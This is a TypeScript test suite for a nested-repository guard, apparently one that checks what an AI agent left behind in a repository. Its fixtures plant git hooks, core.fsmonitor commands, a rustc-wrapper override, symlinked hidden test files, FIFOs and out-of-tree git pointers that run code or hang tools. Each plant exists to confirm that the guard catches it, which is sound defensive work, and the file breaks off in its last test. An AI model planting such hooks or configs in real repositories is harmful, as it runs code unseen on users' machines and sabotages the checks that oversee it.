// The nested-repository check is itself something the agent attacks: it must
// not rename anything outside the repository (a submodule path that is a link
// out of it), nor hang on a FIFO planted where a pointer file should be.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readlinkSync, realpathSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { checkNestedRepos } from '../../lib/git/nested-repo-guard.js';
import { noteSharedNames } from '../../lib/git/shared-names.js';
import { gitRepos } from '../git-repos.js';

const base = mkdtempSync(join(tmpdir(), 'stashbase-guard-'));
after(() => rmSync(base, { recursive: true, force: true }));
const env = { PATH: process.env.PATH, HOME: base };

/** A run's start between two short waits: what is written after it is the run's, what before it is not. */
async function runStarts(): Promise<number> {
  const { setTimeout: sleep } = await import('node:timers/promises');
  await sleep(20);
  const since = Date.now();
  await sleep(20);
  return since;
}

/** sh -c in a folder, with the tests' environment. */
const shIn = (root: string) => (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env, encoding: 'utf8' });
const { git, repo } = gitRepos(base, env);
const register = (root: string, path: string, sha: string) => git(root, 'update-index', '--add', '--cacheinfo', `160000,${sha},${path}`);

test('a submodule path that links out of the repository: nothing outside is renamed', () => {
  const root = repo('r1');
  const other = repo('yours'); // another repository of yours, its config just changed
  git(other, 'config', 'core.editor', 'vim');
  symlinkSync(other, join(root, 'evil'));
  register(root, 'evil', git(other, 'rev-parse', 'HEAD'));
  assert.deepEqual(checkNestedRepos(root, env, 0), []);
  assert.equal(existsSync(join(other, '.git', 'config')), true);
  assert.equal(existsSync(join(other, '.git.stashbase-quarantine')), false);
});

test('a FIFO as the pointer file or as commondir does not hang the check', () => {
  const root = repo('r2');
  mkdirSync(join(root, 'fifo1'));
  assert.equal(spawnSync('mkfifo', [join(root, 'fifo1', '.git')]).status, 0);
  register(root, 'fifo1', '1'.repeat(40));
  const inner = repo('r2/fifo2');
  register(root, 'fifo2', git(inner, 'rev-parse', 'HEAD'));
  assert.equal(spawnSync('mkfifo', [join(inner, '.git', 'commondir')]).status, 0);
  const t = Date.now();
  const warnings = checkNestedRepos(root, env, 0);
  // And the repository's own index replaced by a FIFO.
  const r4 = repo('r4');
  rmSync(join(r4, '.git', 'index'), { force: true });
  assert.equal(spawnSync('mkfifo', [join(r4, '.git', 'index')]).status, 0);
  assert.deepEqual(checkNestedRepos(r4, env, 0), []);
  assert.ok(Date.now() - t < 5000);
  // fifo2's own config (written now, by git init) holds only harmless keys; its commondir (a FIFO, never read) moves it aside.
  assert.equal(warnings.length, 1);
  assert.match(warnings[0] as string, /fifo2, in a subfolder, .*: its git directory \S+\/fifo2\/\.git has a commondir, whose repository your git in that folder would work on\. Its \.git was renamed/);
});

test('a pointer file to a git directory outside the repository: only the pointer, inside, is renamed', () => {
  const root = repo('r3');
  const outside = repo('planted-outside');
  git(outside, 'config', 'core.fsmonitor', 'touch /nonexistent/x');
  mkdirSync(join(root, 'evil'));
  writeFileSync(join(root, 'evil', '.git'), `gitdir: ${join(outside, '.git')}\n`);
  register(root, 'evil', git(outside, 'rev-parse', 'HEAD'));
  const [w, ...rest] = checkNestedRepos(root, env, 0);
  assert.deepEqual(rest, []);
  assert.match(w ?? '', /core\.fsmonitor\. Its \.git was renamed .*r3\/evil\/\.git\.stashbase-quarantine/);
  assert.deepEqual([existsSync(join(root, 'evil', '.git')), existsSync(join(outside, '.git', 'config'))], [false, true]);
});

test("a submodule's git directory that was never checked out, planted or given a hook: moved aside and named; an untouched one is left", () => {
  const root = repo('r-modules');
  const plant = join(root, '.git', 'modules', 'lib');
  const quiet = join(root, '.git', 'modules', 'docs', 'site');
  for (const d of [plant, quiet]) git(base, 'init', '-q', '--bare', d);
  assert.deepEqual(checkNestedRepos(root, env, Date.now() + 60_000), [], 'nothing written after the mark: nothing to do');
  git(base, '--git-dir', plant, 'config', 'core.fsmonitor', 'touch /tmp/pwn');
  writeFileSync(join(plant, 'hooks', 'post-checkout'), '#!/bin/sh\ntouch /tmp/pwn\n');
  // Both were written after this mark; only the planted one would run anything.
  const warnings = checkNestedRepos(root, env, Date.now() - 10_000);
  assert.equal(warnings.length, 1, warnings.join('\n'));
  assert.match(warnings[0]!, new RegExp(`submodule's git directory ${plant.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} whose files would run programs .*core\\.fsmonitor.*post-checkout: a hook. It was renamed .*lib\\.stashbase-quarantine, its HEAD .*lib\\.stashbase-quarantine/HEAD\\.stashbase-quarantine; review it, then restore it with: mv `));
  assert.deepEqual([existsSync(plant), existsSync(`${plant}.stashbase-quarantine`), existsSync(quiet)], [false, true, true]);
});

test('a repository of 10,000 files in 50 nested folders: a plant five levels down is found, a nested repository made before the mark is left', () => {
  const root = repo('r-big');
  for (let d = 0; d < 50; d++) {
    const dir = join(root, `a${d % 5}`, `b${d}`);
    mkdirSync(dir, { recursive: true });
    for (let f = 0; f < 200; f++) writeFileSync(join(dir, `f${f}`), '');
  }
  const yours = join(root, 'a1', 'b1', 'vendored');
  mkdirSync(yours);
  git(yours, 'init', '-q');
  git(yours, 'config', 'core.pager', 'less');
  const mark = Date.now() + 30;
  while (Date.now() < mark + 20) { /* file times after the mark */ }
  const deep = join(root, 'a3', 'b8', 'x', 'y', 'z');
  mkdirSync(deep, { recursive: true });
  git(deep, 'init', '-q');
  git(deep, 'config', 'core.fsmonitor', 'touch /tmp/pwn');
  const warnings = checkNestedRepos(root, env, mark);
  assert.equal(warnings.length, 1, warnings.join('\n'));
  assert.match(warnings[0]!, /in a subfolder, .*core\.fsmonitor/);
  assert.deepEqual([existsSync(join(deep, '.git')), existsSync(join(yours, '.git'))], [false, true]);
});

test('an old folder moved into a nested repository already there, holding a hard link and a link out of the tree: judged whole, moved aside (found in review: its entries kept their old times); control: your git appends through the hard link', async () => {
  const root = repo('r9');
  const sub = repo('r9/sub');
  const store = join(base, 'store-r9');
  mkdirSync(store, { recursive: true });
  writeFileSync(join(store, 'index.js'), 'console.log("store file")\n');
  mkdirSync(join(root, 'node_modules', 'pkg'), { recursive: true });
  spawnSync('ln', [join(store, 'index.js'), join(root, 'node_modules', 'pkg', 'index.js')]);
  symlinkSync(join(store, 'index.js'), join(root, 'node_modules', 'pkg', 'out.js'));
  await new Promise((res) => setTimeout(res, 30));
  const since = Date.now();
  await new Promise((res) => setTimeout(res, 30));
  spawnSync('mv', [join(root, 'node_modules', 'pkg'), join(sub, '.git', 'logs', 'refs', 'heads', 'pkgdir')]);
  const warnings = checkNestedRepos(root, env, since);
  // (Round 28c: node_modules, whose package was moved out, changed too: its own time says so.)
  assert.equal(warnings.length, 2, warnings.join('\n'));
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, 'node_modules')} (node_modules`)), warnings.join('\n'));
  assert.match(warnings.find((w) => w.includes('sub/.git holds')) ?? '', /sub\/\.git holds logs\/refs\/heads\/pkgdir\/(index|out)\.js \(a (hard|symbolic) link.*\), through which git writes elsewhere\. Its \.git was renamed/);
  // Control: the same layout left in place, your git appends its reflog line to the store's file through the hard link.
  const ctl = repo('r9-control');
  mkdirSync(join(ctl, '.git', 'logs', 'refs', 'heads', 'pkgdir'), { recursive: true });
  spawnSync('ln', [join(store, 'index.js'), join(ctl, '.git', 'logs', 'refs', 'heads', 'pkgdir', 'index.js')]);
  git(ctl, 'update-ref', '-m', 'user commit', 'refs/heads/pkgdir/index.js', 'HEAD');
  assert.match((await import('node:fs')).readFileSync(join(store, 'index.js'), 'utf8'), /user commit/);
});

// From the ninth review: what a nested repository's git directory holds is judged by what changed on the way to it,
// by what a link in it leads to, and with its own submodules' git directories. Each with its control: your git runs it.
const tick = () => new Promise((res) => setTimeout(res, 30));
const markerIn = (name: string) => join(base, `ran-${name}`);
const fsmonitor = (marker: string) => `echo ran >> ${marker}; false`;

test('an old folder of scripts moved into a nested repository\'s hooks: its hooks count (they kept their old times); the moved-aside .git\'s HEAD renamed too; control: your git checkout runs them', async () => {
  const root = repo('r10');
  const sub = repo('r10/vend');
  const marker = markerIn('r10');
  mkdirSync(join(root, 'build', 'h'), { recursive: true });
  writeFileSync(join(root, 'build', 'h', 'post-checkout'), `#!/bin/sh\necho ran >> ${marker}\n`, { mode: 0o755 });
  await tick();
  const since = Date.now();
  await tick();
  spawnSync('mv', [join(sub, '.git', 'hooks'), join(root, 'build', 'oldhooks')]);
  spawnSync('mv', [join(root, 'build', 'h'), join(sub, '.git', 'hooks')]);
  // Control: your git in it now runs the hook.
  const ctl = join(base, 'r10-control');
  spawnSync('cp', ['-a', sub, ctl]);
  git(ctl, 'checkout', '-q', '-b', 'x');
  assert.equal((await import('node:fs')).readFileSync(marker, 'utf8'), 'ran\n');
  rmSync(marker);
  const warnings = checkNestedRepos(root, env, since);
  assert.equal(warnings.length, 1, warnings.join('\n'));
  const aside = join(sub, '.git.stashbase-quarantine');
  assert.equal(warnings[0], `the agent left a nested repository at ${sub}, in a subfolder, whose git files would run programs when your git visits it (git status does): ${sub}/.git/hooks/post-checkout: a hook. Its .git was renamed ${aside} and its HEAD ${aside}/HEAD.stashbase-quarantine, so git takes neither for a repository; review it, then restore it with: mv ${aside}/HEAD.stashbase-quarantine ${aside}/HEAD && mv ${aside} ${sub}/.git`);
  // Inside the folder moved aside, git finds the repository above it, not the agent's.
  assert.equal(git(aside, 'rev-parse', '--absolute-git-dir'), join(root, '.git'));
  assert.equal(existsSync(marker), false);
});

test('a nested repository\'s config a link to a file in it, that file changed in a later run: judged by what it leads to; control: your git status runs its fsmonitor', async () => {
  const root = repo('r11');
  const sub = repo('r11/vend');
  const marker = markerIn('r11');
  mkdirSync(join(sub, '.git', 'conf.d'));
  spawnSync('mv', [join(sub, '.git', 'config'), join(sub, '.git', 'conf.d', 'main')]);
  symlinkSync('conf.d/main', join(sub, '.git', 'config'));
  await tick();
  const since = Date.now();
  await tick();
  spawnSync('git', ['config', '--file', join(sub, '.git', 'conf.d', 'main'), 'core.fsmonitor', fsmonitor(marker)]);
  const ctl = join(base, 'r11-control');
  spawnSync('cp', ['-a', sub, ctl]);
  git(ctl, 'status', '--short');
  assert.match((await import('node:fs')).readFileSync(marker, 'utf8'), /^ran\n/);
  const warnings = checkNestedRepos(root, env, since);
  assert.equal(warnings.length, 1, warnings.join('\n'));
  assert.match(warnings[0] as string, new RegExp(`^the agent left a nested repository at ${sub}, in a subfolder, .*: ${sub}/\\.git/config: core\\.fsmonitor\\. Its \\.git was renamed`));
});

test('a pointer to a git directory kept inside another repository\'s .git, swapped there by renaming in a later run: judged whole; control: your git status runs the swapped one\'s fsmonitor', async () => {
  const root = repo('r12');
  const other = repo('r12/other');
  const vend = join(root, 'vend');
  const marker = markerIn('r12');
  mkdirSync(join(other, '.git', 'x'), { recursive: true });
  for (const name of ['gd', 'evil']) {
    const d = join(other, '.git', 'x', name);
    git(root, 'init', '-q', '--bare', d);
    git(root, 'config', '--file', join(d, 'config'), 'core.bare', 'false');
    git(root, 'config', '--file', join(d, 'config'), 'core.worktree', vend);
  }
  git(root, 'config', '--file', join(other, '.git', 'x', 'evil', 'config'), 'core.fsmonitor', fsmonitor(marker));
  mkdirSync(vend);
  writeFileSync(join(vend, '.git'), `gitdir: ${join(other, '.git', 'x', 'gd')}\n`);
  await tick();
  const since = Date.now();
  await tick();
  spawnSync('mv', [join(other, '.git', 'x', 'gd'), join(other, '.git', 'x', 'old')]);
  spawnSync('mv', [join(other, '.git', 'x', 'evil'), join(other, '.git', 'x', 'gd')]);
  spawnSync('git', ['-C', vend, 'status', '--short'], { env });
  assert.match((await import('node:fs')).readFileSync(marker, 'utf8'), /^ran\n/);
  rmSync(marker);
  const warnings = checkNestedRepos(root, env, since);
  assert.equal(warnings.length, 1, warnings.join('\n'));
  assert.match(warnings[0] as string, new RegExp(`^the agent left a nested repository at ${vend}, in a subfolder, .*: ${other}/\\.git/x/gd/config: core\\.fsmonitor\\. Its \\.git was renamed`));
  spawnSync('git', ['-C', vend, 'status', '--short'], { env });
  assert.equal(existsSync(marker), false);
});

test('(not named) a nested repository\'s own submodule\'s git directory, never checked out, with a hook and an fsmonitor: judged with it; control: your git there runs them', async () => {
  const root = repo('r13');
  const since = Date.now() - 1;
  await tick();
  const sub = repo('r13/vend');
  const marker = markerIn('r13');
  const m = join(sub, '.git', 'modules', 'x');
  git(root, 'init', '-q', '--bare', m);
  git(root, 'config', '--file', join(m, 'config'), 'core.fsmonitor', fsmonitor(marker));
  const warnings = checkNestedRepos(root, env, since);
  assert.equal(warnings.length, 1, warnings.join('\n'));
  assert.match(warnings[0] as string, new RegExp(`^the agent left a nested repository at ${sub}, in a subfolder, .*: ${m}/config: core\\.fsmonitor\\. Its \\.git was renamed`));
  // Control: a checkout of it (as git submodule update --init makes) runs the fsmonitor.
  const ctl = repo('r13-control');
  const cm = join(ctl, '.git', 'modules', 'x');
  git(ctl, 'init', '-q', '--bare', cm);
  git(ctl, 'config', '--file', join(cm, 'config'), 'core.bare', 'false');
  git(ctl, 'config', '--file', join(cm, 'config'), 'core.worktree', '../../../x');
  git(ctl, 'config', '--file', join(cm, 'config'), 'core.fsmonitor', fsmonitor(marker));
  mkdirSync(join(ctl, 'x'));
  writeFileSync(join(ctl, 'x', '.git'), 'gitdir: ../.git/modules/x\n');
  spawnSync('git', ['-C', join(ctl, 'x'), 'status', '--short'], { env });
  assert.match((await import('node:fs')).readFileSync(marker, 'utf8'), /^ran\n/);
});

test('submodules\' git directories of a nested repository by any name git takes: past eight folders deep, ending like a folder moved aside, under a folder holding a folder named HEAD; control: one your git uses runs its fsmonitor', async () => {
  const root = repo('r14');
  const since = Date.now() - 1;
  await tick();
  const marker = markerIn('r14');
  const names = ['m.stashbase-quarantine', 'a/b/c/d/e/f/g/h/i/j', 'k/l'];
  for (const name of names) {
    const sub = repo(`r14/s-${names.indexOf(name)}`);
    const m = join(sub, '.git', 'modules', name);
    git(root, 'init', '-q', '--bare', m);
    git(root, 'config', '--file', join(m, 'config'), 'core.fsmonitor', fsmonitor(marker));
    if (name === 'k/l') mkdirSync(join(sub, '.git', 'modules', 'k', 'HEAD'));
  }
  const warnings = checkNestedRepos(root, env, since);
  assert.equal(warnings.length, 3, warnings.join('\n'));
  for (const [i, name] of names.entries()) {
    const m = join(root, `s-${i}`, '.git', 'modules', name);
    assert.ok(warnings.some((w) => w.includes(`${m}/config: core.fsmonitor`)), `${name}: ${warnings.join('\n')}`);
  }
  // Control: a checkout of the deepest one, as git submodule update --init makes it, runs its fsmonitor.
  const ctl = repo('r14-control');
  const cm = join(ctl, '.git', 'modules', 'a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j');
  git(ctl, 'init', '-q', '--bare', cm);
  git(ctl, 'config', '--file', join(cm, 'config'), 'core.bare', 'false');
  git(ctl, 'config', '--file', join(cm, 'config'), 'core.fsmonitor', fsmonitor(marker));
  mkdirSync(join(ctl, 'x'));
  writeFileSync(join(ctl, 'x', '.git'), `gitdir: ${cm}\n`);
  git(ctl, 'config', '--file', join(cm, 'config'), 'core.worktree', join(ctl, 'x'));
  spawnSync('git', ['-C', join(ctl, 'x'), 'status', '--short'], { env });
  assert.match((await import('node:fs')).readFileSync(marker, 'utf8'), /^ran\n/);
});

test('(round 11) core.worktree set in config.worktree (worktree configs on), or naming the folder through a link and ..: judged as git reads them; control: your git there takes another folder for its work tree', async () => {
  const root = repo('r15');
  const since = Date.now() - 1;
  await tick();
  const outside = join(base, 'outside15');
  mkdirSync(outside, { recursive: true });
  // In config.worktree.
  const a = repo('r15/a');
  git(a, 'config', 'core.repositoryformatversion', '1');
  git(a, 'config', 'extensions.worktreeConfig', 'true');
  writeFileSync(join(a, '.git', 'config.worktree'), `[core]\n\tworktree = ${outside}\n`);
  // Through a link and .. (the text resolves to the folder; the kernel follows the link first).
  const b = repo('r15/b');
  mkdirSync(join(outside, 'deep'), { recursive: true });
  symlinkSync(join(outside, 'deep'), join(root, 'lnk'));
  git(b, 'config', 'core.worktree', '../../lnk/..');
  assert.equal(spawnSync('git', ['-C', a, 'rev-parse', '--show-toplevel'], { env, encoding: 'utf8' }).stdout.trim(), outside, 'control: git takes the folder outside');
  assert.equal(spawnSync('git', ['-C', b, 'rev-parse', '--show-toplevel'], { env, encoding: 'utf8' }).stdout.trim(), outside, 'control: git follows the link first');
  const warnings = checkNestedRepos(root, env, since);
  assert.equal(warnings.length, 2, warnings.join('\n'));
  assert.match(warnings.find((w) => w.includes(`at ${a},`)) ?? '', /its core\.worktree names \S+outside15, where your git in that folder would check files out and remove them/);
  assert.match(warnings.find((w) => w.includes(`at ${b},`)) ?? '', /its core\.worktree names \S+\/lnk\/\.\., where your git in that folder would check files out and remove them/);
});

test('(found in review) names that are not UTF-8: the run\'s renamed and checked under the new names (a nested repository with an fsmonitor unplugged; a long name; one whose new name is taken said, the rest still checked); yours, older, left alone; control: your git status runs it', async () => {
  const root = repo('r16');
  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env: { ...env, M: markerIn('r16') }, encoding: 'utf8' });
  // Yours, from before the run: a file and a folder whose names are not UTF-8.
  assert.equal(sh(`touch "$(printf 'caf\\351.txt')" && mkdir "$(printf 'old\\351')"`).status, 0);
  await tick();
  const since = Date.now();
  await tick();
  const marker = markerIn('r16');
  assert.equal(sh(`d="$(printf '\\377')" && mkdir "$d" && git -C "$d" init -q && git -C "$d" config core.fsmonitor 'echo ran >> "$M"; false'`).status, 0);
  // A name whose hex would pass the file system's limit; one whose new name is already there.
  const long = 'a'.repeat(200);
  assert.equal(sh(`touch "$(printf '\\376')${long}" && touch "$(printf '\\375')"`).status, 0);
  const { createHash } = await import('node:crypto');
  const nameOf = (bytes: number[]) => `stashbase-renamed-${createHash('sha256').update(Buffer.from(bytes)).digest('hex').slice(0, 16)}.stashbase-quarantine`;
  mkdirSync(join(root, nameOf([0xfd])));
  // Control: your git status in the folder runs the fsmonitor.
  sh(`git -C "$(printf '\\377')" status --short`);
  assert.match((await import('node:fs')).readFileSync(marker, 'utf8'), /^ran\n/);
  rmSync(marker);
  const warnings = checkNestedRepos(root, env, since);
  const renamed = join(root, nameOf([0xff]));
  assert.equal(warnings.length, 3, warnings.join('\n'));
  assert.equal(warnings[0], `${root}/<fd> (a name that is not UTF-8, not renamed: ${nameOf([0xfd])} is taken) cannot be read (the agent, which writes as you, can close a folder of yours to you, or give it a name stashbase cannot use), so what lies below is unchecked: look there yourself before you run git or your tools there; the rest of the tree was checked`);
  assert.equal(warnings[1], `the agent left 2 name(s) that are not UTF-8, which stashbase cannot check by name (your tools still open them): renamed, and checked under the new names: ${[join(root, nameOf([0xfe, ...Buffer.from(long)])), renamed].sort().join(', ')}`);
  assert.match(warnings[2] as string, new RegExp(`^the agent left a nested repository at ${renamed.replace(/[.]/g, '\\.')}, in a subfolder, .*core\\.fsmonitor`));
  assert.equal(existsSync(join(renamed, '.git.stashbase-quarantine')), true);
  // Yours, older, untouched.
  assert.equal(sh(`test -e "$(printf 'caf\\351.txt')" && test -d "$(printf 'old\\351')"`).status, 0);
});

test('a name that is UTF-8 and holds U+FFFD itself (what a name that is not reads as): checked under its own name, beside one that is not; control: your git status there runs its fsmonitor', async () => {
  const root = repo('rfffd');
  const marker = markerIn('rfffd');
  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env: { ...env, M: marker }, encoding: 'utf8' });
  await tick();
  const since = Date.now();
  await tick();
  // U+FFFD as UTF-8 (EF BF BD) in a folder name; beside it, a file whose name is the byte FF.
  assert.equal(sh(`d="$(printf 'x\\357\\277\\275')" && mkdir "$d" && git -C "$d" init -q && git -C "$d" config core.fsmonitor 'echo ran >> "$M"; false' && touch "$(printf '\\377')"`).status, 0);
  const name = 'x\uFFFD';
  sh(`git -C "${name}" status --short`);
  assert.match(readFileSync(marker, 'utf8'), /^ran\n/, 'control');
  rmSync(marker);
  const warnings = checkNestedRepos(root, env, since);
  assert.equal(warnings.length, 2, warnings.join('\n'));
  assert.match(warnings[0] as string, /^the agent left 1 name\(s\) that are not UTF-8/);
  assert.match(warnings[1] as string, new RegExp(`^the agent left a nested repository at ${join(root, name)}, in a subfolder, .*core\\.fsmonitor`));
  assert.equal(existsSync(join(root, name, '.git.stashbase-quarantine')), true);
});

test('(review, round 19) what git ignores of many files found by name is asked of one git, whatever their names (one per name git would quote made the check take minutes)', async () => {
  const root = repo('rmany');
  writeFileSync(join(root, '.gitignore'), 'build/\n');
  git(root, 'add', '.gitignore');
  git(root, 'commit', '-qm', 'ignore');
  const since = await runStarts();
  mkdirSync(join(root, 'build'));
  // Names git would quote (non-ASCII, a quote, a backslash), and a colon first (pathspec magic).
  for (let i = 0; i < 300; i++) writeFileSync(join(root, 'build', `test_é${i}.py`), '');
  for (const n of ['test_"q".py', 'test_\\b.py', ':(exclude)x_test.py']) writeFileSync(join(root, 'build', n), '');
  mkdirSync(join(root, 'shown'));
  writeFileSync(join(root, 'shown', 'test_seen.py'), '');
  // A git that counts its starts, then runs the real one.
  const bin = join(base, 'counting-git');
  mkdirSync(bin, { recursive: true });
  const count = join(base, 'git-starts');
  const real = spawnSync('sh', ['-c', 'command -v git'], { env, encoding: 'utf8' }).stdout.trim();
  writeFileSync(join(bin, 'git'), `#!/bin/sh\necho >> '${count}'\nexec '${real}' "$@"\n`, { mode: 0o755 });
  const warnings = checkNestedRepos(root, { ...env, PATH: `${bin}:${env.PATH}` }, since);
  const starts = readFileSync(count, 'utf8').length;
  assert.ok(starts < 10, `git started ${starts} times`);
  assert.equal(spawnSync('sh', ['-c', 'ls build | grep -vc stashbase-quarantine'], { cwd: root, encoding: 'utf8' }).stdout.trim(), '0', warnings.slice(0, 3).join('\n'));
  assert.equal(existsSync(join(root, 'shown', 'test_seen.py')), true, 'git shows that one: left');
});

test('(review, round 19) one folder that throws (a link loop where git looks for objects, a path past PATH_MAX) is said unchecked alone: the rest of the tree is checked (a planted repository still unplugged); control: your git status there runs its fsmonitor', async () => {
  const root = repo('rthrow');
  const since = await runStarts();
  const marker = join(base, 'rthrow-ran');
  const sh = (script: string) => spawnSync('sh', ['-c', script], { cwd: root, env: { ...env, M: marker }, encoding: 'utf8' });
  assert.equal(sh('mkdir -p a/l && touch a/l/HEAD && ln -s objects a/l/objects').status, 0);
  const long = 'd'.repeat(200);
  assert.equal(spawnSync('bash', ['-c', `cd a && for i in $(seq 25); do mkdir ${long} && cd -P ${long} || exit 1; done`], { cwd: root }).status, 0);
  assert.equal(sh('git init -q z/evil && git -C z/evil config core.fsmonitor \'echo ran >> "$M"; false\'').status, 0);
  sh('git -C z/evil status --short');
  assert.match(readFileSync(marker, 'utf8'), /^ran\n/, 'control');
  rmSync(marker);
  const warnings = checkNestedRepos(root, env, since);
  assert.ok(!warnings.some((w) => w.includes('could not finish')), warnings.join('\n'));
  assert.match(warnings.find((w) => w.includes('cannot be read')) ?? '', /d{200} \(ENAMETOOLONG\)/);
  assert.match(warnings.find((w) => w.includes('z/evil')) ?? '', /^the agent left a nested repository at \S+z\/evil, in a subfolder, .*core\.fsmonitor/);
  assert.equal(existsSync(join(root, 'z', 'evil', '.git.stashbase-quarantine')), true);
  // rm walks it by descriptor (Node's rmSync by path cannot).
  spawnSync('rm', ['-rf', join(root, 'a')]);
});

test('(review, rounds 19 and 20) code a tool runs kept where the walk does not go (a plain .git folder) and reached through a link where the tool looks (a conftest.py in an ignored folder, a venv\'s bin, a crate\'s .cargo, and unlisted, Node --test\'s tests/), with decoy links to the same folders first: each link removed (renamed, a test runner finds what lies behind it under the new name); control: node --test runs it', async () => {
  const root = repo('rlinks');
  const sh = (script: string, extra: Record<string, string> = {}) => spawnSync('sh', ['-c', script], { cwd: root, env: { ...env, ...extra }, encoding: 'utf8' });
  assert.equal(sh(`printf 'docs/_build/\\n.venv/\\n' > .gitignore && mkdir -p crate .venv/bin docs && echo '[package]' > crate/Cargo.toml && echo 'home = /usr/bin' > .venv/pyvenv.cfg && touch .venv/bin/python`).status, 0);
  git(root, 'add', '.gitignore', 'crate');
  git(root, 'commit', '-qm', 'base');
  const since = await runStarts();
  const marker = join(base, 'rlinks-ran');
  const plant = [
    'mkdir -p x/.git/k x/.git/b x/.git/c x/.git/t docs/_build',
    'echo "open(\'/nonexistent\')" > x/.git/k/conftest.py && ln -s ../../x/.git/k docs/_build/api',
    'printf "#!/bin/sh\\ntouch /nonexistent\\n" > x/.git/b/pip && rm -rf .venv/bin && ln -s ../x/.git/b .venv/bin',
    'printf "[build]\\nrustc-wrapper = \\"/nonexistent\\"\\n" > x/.git/c/config.toml && ln -s ../x/.git/c crate/.cargo',
    `echo "require('fs').writeFileSync('${marker}', 'ran')" > x/.git/t/hidden.test.js && ln -s x/.git/t tests`,
    // Decoys, met first by the walk (round 20: the folder was then judged under their names only).
    'ln -s x/.git/k aa && ln -s x/.git/b ab && ln -s x/.git/c ac && ln -s x/.git/t ad',
  ].join(' && ');
  assert.equal(sh(plant).status, 0);
  // The control: Node's test runner finds and runs the hidden file through the link.
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  assert.equal(readFileSync(marker, 'utf8'), 'ran', 'control');
  rmSync(marker);
  const warnings = checkNestedRepos(root, env, since);
  const named = (p: string) => warnings.some((w) => w.startsWith(`the agent made ${join(root, p)} a link to `) && w.includes('The link was removed') && w.endsWith(` ${join(root, p)}`));
  // (Round 28: the environment whose bin was swapped for a link goes aside whole, its link in it.)
  assert.deepEqual(['docs/_build/api', 'crate/.cargo', 'tests', 'aa', 'ab', 'ac', 'ad'].map(named), Array(7).fill(true), warnings.join('\n'));
  assert.equal(lstatSync(join(root, '.venv.stashbase-quarantine', '.venv', 'bin')).isSymbolicLink(), true);
  assert.equal(existsSync(join(root, '.venv')), false);
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv')} (a Python environment,`)), warnings.join('\n'));
  assert.equal(existsSync(join(root, 'docs', '_build', 'api')), false);
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  assert.equal(existsSync(marker), false, 'node --test ran nothing hidden');
});

test('(review, round 19) old files a folder renamed into place brings (kept aside in an earlier run, no time of their own changed): counted by the folders on their way (test files in an ignored folder, __pycache__, node_modules/.bin, a crate\'s .cargo, and unlisted, a venv\'s bin); control: node --test runs the one it finds', async () => {
  const root = repo('rrenamed');
  const sh = shIn(root);
  assert.equal(sh(`printf 'build/\\n__pycache__/\\nnode_modules/\\n.venv/\\n' > .gitignore && mkdir -p crate node_modules/tool .venv && echo '[package]' > crate/Cargo.toml && echo 'home = /usr/bin' > .venv/pyvenv.cfg && echo x=1 > mod.py`).status, 0);
  git(root, 'add', '.gitignore', 'crate', 'mod.py');
  git(root, 'commit', '-qm', 'base');
  const marker = join(base, 'rrenamed-ran');
  // The first run keeps each aside, under names nothing runs.
  const stash = [
    'mkdir -p x/.git/t/test x/.git/p x/.git/bin x/.git/c x/.git/vbin',
    `echo "require('fs').writeFileSync('${marker}', 'ran')" > x/.git/t/test/evil.js`,
    'echo pyc > x/.git/p/mod.cpython-311.pyc',
    'printf "#!/bin/sh\\n" > x/.git/bin/tool && chmod +x x/.git/bin/tool',
    'printf "[build]\\nrustc-wrapper = \\"/nonexistent\\"\\n" > x/.git/c/config.toml',
    'printf "#!/bin/sh\\n" > x/.git/vbin/pip && chmod +x x/.git/vbin/pip',
  ].join(' && ');
  assert.equal(sh(stash).status, 0);
  const { setTimeout: sleep } = await import('node:timers/promises');
  await sleep(30);
  const since = Date.now();
  await sleep(30);
  // The next run renames each into place.
  assert.equal(sh('mkdir -p build && mv x/.git/t build/t && mv x/.git/p __pycache__ && mv x/.git/bin node_modules/.bin && mv x/.git/c crate/.cargo && mv x/.git/vbin .venv/bin').status, 0);
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  assert.equal(readFileSync(marker, 'utf8'), 'ran', 'control');
  rmSync(marker);
  const warnings = checkNestedRepos(root, env, since);
  const gone = ['build/t/test/evil.js', '__pycache__/mod.cpython-311.pyc', 'node_modules/.bin/tool', 'crate/.cargo/config.toml', '.venv/bin/pip'].filter((p) => existsSync(join(root, p)));
  assert.deepEqual(gone, [], warnings.join('\n'));
  assert.ok(warnings.some((w) => w.includes(`${join(root, 'node_modules')} (node_modules`)), 'node_modules moved aside whole');
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  assert.equal(existsSync(marker), false, 'node --test ran nothing');
});

test('(review, round 19) an old folder whose name is not UTF-8, with something written below it during the run: said unchecked (it was passed by unsaid); one with nothing changed below it, left unsaid', async () => {
  const root = repo('roldodd');
  const sh = shIn(root);
  assert.equal(sh(`mkdir -p "build/$(printf 'a\\377')/s" "keep/$(printf 'b\\377')"`).status, 0);
  const { setTimeout: sleep } = await import('node:timers/promises');
  await sleep(30);
  const since = Date.now();
  await sleep(30);
  assert.equal(sh(`echo x > "build/$(printf 'a\\377')/s/conftest.py"`).status, 0);
  const warnings = checkNestedRepos(root, env, since);
  assert.equal(warnings.length, 1, warnings.join('\n'));
  assert.match(warnings[0] as string, /build\/<61ff> \(a name that is not UTF-8, with something changed below it or on its way during the run\) cannot be read/);
});

test('(review, round 20) a test file in a nested .git folder (a plain one, and a repository\'s), which node --test finds there, is moved aside; control: node --test runs both', async () => {
  const root = repo('rdotgit');
  const since = await runStarts();
  const marker = join(base, 'rdotgit-ran');
  const sh = shIn(root);
  assert.equal(sh(`mkdir -p x/.git/t && git init -q y && mkdir -p y/.git/t && for d in x y; do echo "require('fs').appendFileSync('${marker}', '$d')" > $d/.git/t/a.test.js; done`).status, 0);
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
